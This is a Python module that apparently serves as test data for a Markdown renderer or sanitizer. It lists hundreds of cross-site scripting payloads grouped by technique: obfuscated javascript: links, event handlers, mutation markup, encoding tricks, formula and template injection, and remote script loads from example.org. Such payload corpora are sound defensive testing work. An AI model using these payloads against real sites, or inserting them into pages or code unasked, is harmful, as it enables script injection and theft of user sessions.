"""Markdown that tries to become script, or to take something of the page over. By class of trick."""

_URLS = """\
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
javascript&#x3a;alert(1)
javascript&#x0003A;alert(1)
&#106;avascript:alert(1)
&#x6A;&#x61;vascript:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
java&#9;script:alert(1)
java&#10;script:alert(1)
java&#13;script:alert(1)
java\\script:alert(1)
\\javascript:alert(1)
&#1;javascript:alert(1)
&#x01;javascript:alert(1)
&nbsp;javascript:alert(1)
&#8203;javascript:alert(1)
&shy;javascript:alert(1)
\u00a0javascript:alert(1)
\u200bjavascript:alert(1)
\ufeffjavascript:alert(1)
\x01javascript:alert(1)
java\x00script:alert(1)
java\tscript:alert(1)
javascript://example.org/%0aalert(1)
javascript:/*https://example.org*/alert(1)
javascript%3Aalert(1)
jav\u0430script:alert(1)
javascript\uff1aalert(1)
vbscript:msgbox(1)
vbscript&#58;msgbox(1)
livescript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data&colon;text/html,x
data:image/svg+xml,<svg/onload=alert(1)>
blob:https://example.org/1
file:///etc/passwd
feed:javascript:alert(1)
view-source:javascript:alert(1)
jar:javascript:alert(1)
mhtml:http://example.org/x
ws://example.org
about:blank
intent://x#Intent;end
//example.org/x
\\\\example.org/x
/\\example.org/x
/\\/example.org
&#47;/example.org
/&#47;example.org
/&#92;example.org
/&sol;example.org
/&Tab;/example.org
///example.org
http:example.org
http:/example.org
https:\\\\example.org
http://
#"onclick="alert(1)
#'onclick='alert(1)
#`onclick=`alert(1)
/x"onmouseover="alert(1)
/x'onmouseover='alert(1)
/x&quot;onmouseover=&quot;alert(1)
/x&#34;onmouseover=&#34;alert(1)
https://example.org/"onclick="alert(1)
https://example.org/"><script>alert(1)</script>
https://example.org/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;
mailto:a@b.c?body=<script>alert(1)</script>
mailto:javascript:alert(1)
""".splitlines()

_TAGS = """\
<script>alert(1)</script>
<SCRIPT SRC=//example.org/x.js></SCRIPT>
<script/x>alert(1)</script>
<script
>alert(1)</script
>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
</script><script>alert(1)</script>
<script type="text/markdown">**a**</script>
<script type=module>import"//example.org"</script>
<%00script>alert(1)</script>
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
&LT;script&GT;alert(1)&LT;/script&GT;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
\\<script>alert(1)\\</script>
\\\\<script>alert(1)</script>"""

PAYLOADS: dict[str, list[str]] = {
    "script tags": [*(line for line in _TAGS.split("\n") if line), _TAGS],
    "event handlers": [
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror\n=alert(1)>",
        '<img src="x` `<script>alert(1)</script>"` `>',
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=# onclick=alert(1)>x</a>",
        "<b onmouseover=alert(1)//>x",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<p onpointerenter=alert(1)>x</p>",
        "<x onclick=alert(1)>x",
        "<em onclick=alert(1)>*x*</em>",
    ],
    "link schemes": [f"[x]({url})" for url in _URLS],
    "pointed link schemes": [f"[x](<{url}>)" for url in _URLS[::4]],
    "image schemes": [f"![x]({url})" for url in _URLS[::3]],
    "reference links": [
        *(f"[x][a]\n\n[a]: {url}" for url in _URLS[::3]),
        '[x]\n\n[x]: /a "onclick=alert(1)"',
        "[x]\n\n[x]: <javascript:alert(1)>",
        "[<script>]\n\n[<script>]: /a",
        '["><img src=x onerror=alert(1)>]: /a\n\n["><img src=x onerror=alert(1)>]',
        "[__proto__]\n\n[__proto__]: javascript:alert(1)",
    ],
    "autolinks": [
        *(f"<{url}>" for url in _URLS[::4]),
        *(url for url in _URLS[::4]),
        'https://example.org/"onclick="alert(1)',
        "https://example.org/'onclick='alert(1)",
        "https://example.org/<script>alert(1)</script>",
        "https://example.org/`onclick=alert(1)`",
        "<https://example.org/'onclick='alert(1)>",
        "<a@b.c?onclick=alert(1)>",
        '<x@y.z"onclick="alert(1)>',
        "HTTP://example.org/\u202e gnp.exe",
    ],
    "titles and destinations": [
        '[x](/a "onmouseover=alert(1)")',
        "[x](/a '\"><script>alert(1)</script>')",
        '[x](/a "\n\nonclick=alert(1)")',
        '[x](/a" onclick="alert(1))',
        "[x](/a onclick=alert(1))",
        "[x](</a onclick=alert(1)>)",
        "[x](/a\nonclick=alert(1))",
        "[x](/a)<script>alert(1)</script>",
        "[x](/(a)(b)<svg/onload=alert(1)>)",
        "[<img src=x onerror=alert(1)>](/a)",
        "[![x](javascript:alert(1))](javascript:alert(2))",
        "[[x](javascript:alert(1))](/a)",
        "[x](/a)[y](javascript:alert(1))",
        "![<script>alert(1)</script>](/a)",
        '![" onerror="alert(1)](/a.png)',
        "[x](/a&#x22;onclick=alert(1))",
    ],
    "mutation": [
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>",
        '<style><img src="</style><img src=x onerror=alert(1)//">',
        '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
        "<plaintext><img src=x onerror=alert(1)>",
        '<title><a title="</title><img src=x onerror=alert(1)>">',
        '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
        '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
        "<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>",
        '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<table><td><svg><desc><td><style><!--</style></svg><img src onerror=alert(1)>",
        "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
        '<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style>',
        "<svg><foreignObject><math><mi><style><img src onerror=alert(1)></style></mi></math>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a>",
        '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
        '<math href="javascript:alert(1)">x</math>',
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<ruby><rtc><rt><style></rt></ruby><img src onerror=alert(1)></style>",
        "<b><p></b><i></p><a href=javascript:alert(1)>x",
    ],
    "comments and declarations": [
        "<!--><script>alert(1)</script>-->",
        "<!---><script>alert(1)</script>",
        "<!-- --!><script>alert(1)</script> -->",
        "<!--\n\n--><img src=x onerror=alert(1)>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<![CDATA[ ]]><img src=x onerror=alert(1)>",
        "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
        "<!ELEMENT x><script>alert(1)</script>",
        "<?php echo '<script>alert(1)</script>' ?>",
        "<?xml-stylesheet href=javascript:alert(1)?>",
        '<? foo="><script>alert(1)</script>">',
        "<!x><img src=x onerror=alert(1)>",
        "</ ><script>alert(1)</script>",
        "</!><script>alert(1)</script>",
        "<%><script>alert(1)</script><%>",
        "<![if gte IE 6]><script>alert(1)</script><![endif]>",
    ],
    "ids, names, anchors": [
        "# location",
        "# getElementById\n\n# body\n\n# cookie",
        "# x {#location}",
        "# x {: #location name=cookie onclick=alert(1) }",
        "# x {: id=main }",
        '# "onclick="alert(1)',
        "# <script>alert(1)</script>",
        "# <img src=x onerror=alert(1)>",
        "<a id=location name=cookie>x</a>",
        "<form id=document><input name=cookie></form>",
        "<img name=getElementById>",
        "x[^location]\n\n[^location]: y",
        'x[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: y',
        "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
        "x[^__proto__]\n\n[^__proto__]: y",
        "x[^1]\n\n[^1]: y\n[^1]: <script>alert(1)</script>",
        "[x](#t:fn:1)\n\n[^1]: y",
        "- x {: #main }",
    ],
    "attribute lists": [
        "{: onclick=alert(1) }",
        "x\n{: onclick=alert(1) }",
        "*x*{: onclick=alert(1) }",
        "*x*{ onclick=alert(1) style=color:red }",
        "[x](/a){: onclick=alert(1) target=_top download }",
        "![x](/a){: onerror=alert(1) }",
        "# x\n{: onclick=alert(1) }",
        "`x`{: onclick=alert(1) }",
        "[x](/a){:data-hx-get=/b}",
        "{:x: onclick=alert(1)}\n\nx{:x}",
        "| x |\n|---|\n| y {: onclick=alert(1) } |",
    ],
    "tables": [
        "| <script>alert(1)</script> |\n|---|\n| x |",
        "| x |\n|---|\n| <img src=x onerror=alert(1)> |",
        '| " onclick=alert(1) x=" |\n|---|\n| x |',
        '| "><script>alert(1)</script> |\n|---|\n| x |',
        '| x |\n|:-:" onclick="alert(1)|\n| y |',
        "| x |\n|---|\n| <br onclick=alert(1)> |",
        "| x |\n|---|\n| <br/onclick=alert(1)> |",
        "| x |\n|---|\n| <br\n> |",
        "| x |\n|---|\n| [y](javascript:alert(1)) |",
        "| x |\n|---|\n| `<script>` \\| </td></table><script>alert(1)</script> |",
        "</table><script>alert(1)</script>\n|---|\n| x |",
    ],
    "code": [
        "```\n</code></pre><script>alert(1)</script>\n```",
        '```" onclick="alert(1)\nx\n```',
        '```python" onclick="alert(1)\nx\n```',
        '```python "><script>alert(1)</script>\nx\n```',
        "```<script>alert(1)</script>\nx\n```",
        "```html\n<script>alert(1)</script>\n```",
        "```python\n'</span></code></pre><script>alert(1)</script>'\n```",
        "```js\n`${'</code><script>alert(1)</script>'}`\n```",
        "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
        "```math\n\\text{<script>alert(1)</script>}\n```",
        "```{.x onclick=alert(1)}\nx\n```",
        "~~~ x onclick=alert(1)\nx\n~~~",
        "`</code><script>alert(1)</script>`",
        "``` `</code><img src=x onerror=alert(1)>` ```",
        "    </code></pre><script>alert(1)</script>",
        "```python\n&lt;script&gt;alert(1)&lt;/script&gt;\n```",
        "`&lt;script&gt;` `&#60;script>`",
    ],
    "formulas": [
        r"$\text{<script>alert(1)</script>}$",
        r"$$\text{<img src=x onerror=alert(1)>}$$",
        r"$\href{javascript:alert(1)}{x}$",
        r"$\url{javascript:alert(1)}$",
        r"$\class{x}{y}$",
        r"$\cssId{location}{y}$",
        r"$\style{color:red}{y}$",
        r"$\htmlData{hx-get=/x}{y}$",
        r"$\includegraphics{x}$",
        r"$\unicode{<script>}$",
        r"$\label{location} x$",
        r"$\eqref{javascript:alert(1)}$",
        r"$$\begin{equation}\label{location}\tag{<script>}x\end{equation}$$",
        r"$\color{red;background:url(//example.org)}{x}$",
        r'$\color{red" onclick="alert(1)}{x}$',
        r'$\hspace{1em" onclick="alert(1)}$',
        r"$\operatorname{<script>alert(1)</script>}$",
        r"$\mathrm{</math><script>alert(1)</script>}$",
        r"$</math><script>alert(1)</script>$",
        r"$x<img/src/onerror=alert(1)>$",
        r"$\text{</mtext><mglyph><style><img src onerror=alert(1)>}$",
        r"$\newcommand{\x}{<script>alert(1)</script>}\x$",
        r"$\def\x{\href{javascript:alert(1)}{x}}\x$",
        r"$\begin{array}{c<script>}x\end{array}$",
        r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
        r"$&lt;script&gt;$",
        r"$\unknown{<script>alert(1)</script>}$",
        "$" + "(" * 40 + r"\text{<script>alert(1)</script>}" + "$",
        "$x\n<script>alert(1)</script>$",
        r"$\char`\<script\char`\>$",
    ],
    "callouts, definitions, tasks": [
        '!!! note "<script>alert(1)</script>"\n    x',
        '!!! note "" onclick=alert(1) "\n    x',
        '!!! x" onclick="alert(1)\n    x',
        "!!! note onclick=alert(1)\n    x",
        "!!! warning\n    <img src=x onerror=alert(1)>",
        "<script>\n: alert(1)",
        "x\n: <img src=x onerror=alert(1)>",
        "- [ ] <input type=submit onclick=alert(1)>",
        "- [x onclick=alert(1)] x",
        "- [ ](javascript:alert(1)) x",
        "> [!NOTE]\n> <script>alert(1)</script>",
        "*[<script>]: alert(1)\n\n<script>",
    ],
    "nested encodings": [
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "&#38;lt;script&#38;gt;alert(1)",
        "&amp;#60;script&amp;#62;",
        "&#x26;#x3c;script&#x26;#x3e;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)",
        "\\x3cscript\\x3ealert(1)",
        "&#0060;script&#0062;alert(1)",
        "&#x00003c;script&#x00003e;",
        "&lt script&gt",
        "&ltscript&gtalert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u0001&#2;0&#3;\x020\x03 $x$",
        "&#xd800;&#xdfff;&#x110000;&#0;",
        "\ufe64script\ufe65alert(1)",
        "&bogus;&#;&#x;&;<script>alert(1)</script>",
    ],
    "directions and invisible characters": [
        "\u202e<script>alert(1)</script>",
        "[safe\u202egpj.exe](https://example.org/x)",
        "\u2066<img src=x onerror=alert(1)>\u2069",
        "<scr\u200bipt>alert(1)</script>",
        "<\u200bscript>alert(1)",
        "<script\u2028>alert(1)</script>",
        "<img\u00a0src=x\u00a0onerror=alert(1)>",
        "<img\x0csrc=x\x0conerror=alert(1)>",
        "<img\x0bsrc=x onerror=alert(1)>",
        "<\x00script>alert(1)</script>",
        "<s\u0130cript>alert(1)",
        "\ufeff<script>alert(1)</script>",
        "[x](java\u00adscript:alert(1))",
        "<\ud800script>alert(1)</script>",
    ],
    "style": [
        "<style>*{display:none}</style>",
        "<p style=position:fixed;inset:0>x</p>",
        '<div style="background:url(javascript:alert(1))">x</div>',
        '<div style="width:expression(alert(1))">x</div>',
        "<link rel=stylesheet href=//example.org/x.css>",
        "<style>@import'//example.org/x.css'</style>",
        '<p class="modal hx-indicator">x</p>',
        "<font color=red size=99>x</font>",
        "<span class=hl-k style=all:unset>x</span>",
        "<x style=behavior:url(#default#time2)>",
    ],
    "redirects, frames, embedding": [
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=Set-Cookie content=a=b>",
        "<meta charset=utf-7>",
        "<base href=//example.org>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=//example.org/x.swf>",
        "<applet code=x></applet>",
        "<portal src=//example.org></portal>",
        "<img src=//example.org/pixel>",
        "<video poster=//example.org/x></video>",
        "<audio src=x autoplay></audio>",
        "<picture><source srcset=//example.org/x></picture>",
        "<isindex action=javascript:alert(1)>",
        "<bgsound src=javascript:alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<html><body onload=alert(1)>",
        "<head><script>alert(1)</script></head>",
    ],
    "forms": [
        "<form action=javascript:alert(1)><input type=submit></form>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<input name=csrfmiddlewaretoken value=x>",
        "<button onclick=alert(1)>x</button>",
        "<select onchange=alert(1)><option>x</select>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<label for=csrf>x</label>",
        "<keygen autofocus onfocus=alert(1)>",
        "<dialog open>x</dialog>",
        "</form><form action=//example.org>",
    ],
    "gadgets": [
        "<div hx-get=/admin hx-trigger=load>x</div>",
        "<a data-hx-post=/x data-hx-trigger=load>x</a>",
        "<div hx-on:click=alert(1)>x</div>",
        "<div data-action=x data-controller=y>x</div>",
        "<div x-data=alert(1) x-init=alert(1)>x</div>",
        "<div v-html=alert(1) @click=alert(1)>x</div>",
        "<div ng-app ng-csp>{{constructor.constructor('alert(1)')()}}</div>",
        "{{ 7*7 }} {% load x %} {{ settings.SECRET_KEY }}",
        "<template shadowrootmode=open><script>alert(1)</script></template>",
        "<slot name=x></slot><x-y is=z>x</x-y>",
        "<a popovertarget=x popovertargetaction=show>x</a>",
        "<p contenteditable accesskey=x tabindex=1 draggable=true>x</p>",
        "<span itemscope itemprop=x>y</span>",
        "[x](/a){hx-boost=true}",
    ],
    "where parsers disagree": [
        '<a/b="></a><script>alert(1)</script>">',
        "<p/<script>alert(1)</script>",
        "<a <script>alert(1)</script>",
        "<a b='<script>alert(1)</script>'>",
        "<a\n\nb><script>alert(1)</script>",
        "<!--`\n--><script>alert(1)</script>`-->",
        "`<!--`<script>alert(1)</script>`-->`",
        "*<script>*alert(1)*</script>*",
        "**<img src=x onerror=**alert(1)**>**",
        '_<a href="_javascript:alert(1)">_x',
        '<a href="**">**<script>alert(1)</script>',
        "[<](/a)script>alert(1)<[/](/b)script>",
        "<[s](/a)cript>alert(1)",
        "<scr`ip`t>alert(1)</scr`ip`t>",
        "a<b onclick=alert(1)\n===\n",
        "<div>\n\n**x**\n\n<script>alert(1)</script>\n\n</div>",
        "<pre><script>alert(1)</script></pre>",
        "> <script>\n> alert(1)\n> </script>",
        "- <script>\n  alert(1)\n  </script>",
        "1. <img\n   src=x\n   onerror=alert(1)>",
        "</p></div></section></main><script>alert(1)</script>",
        "<li></ul></ol><img src=x onerror=alert(1)>",
        "$`<img src=x onerror=alert(1)>`$",
        "\\[<script>alert(1)</script>\\]",
        "klzzwxh:0000 wzxhzdk:0 \x02klzzwxh:0001\x03 \x02amp\x03 \x02wzxhzdk:0\x03 `a` <b>",
    ],
}

# Values of one line: titles, names, tags, search words. Templates escape them.
ONE_LINE = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=`alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{ 7*7 }}",
    "{% csrf_token %}",
    "%3Cscript%3E",
    "\u202e<b>",
    "<!--",
    "<![CDATA[",
    "<b onclick=alert(1)>**x**</b>",
    "`<img src=x onerror=alert(1)>`",
    "[x](javascript:alert(1))",
    "$\\text{<script>alert(1)</script>}$",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> |",
    "\x00<script>",
    "\ud800<script>",
    "<math><mi><style><img src onerror=alert(1)>",
    "&",
    "&amp;lt;b&amp;gt;",
]
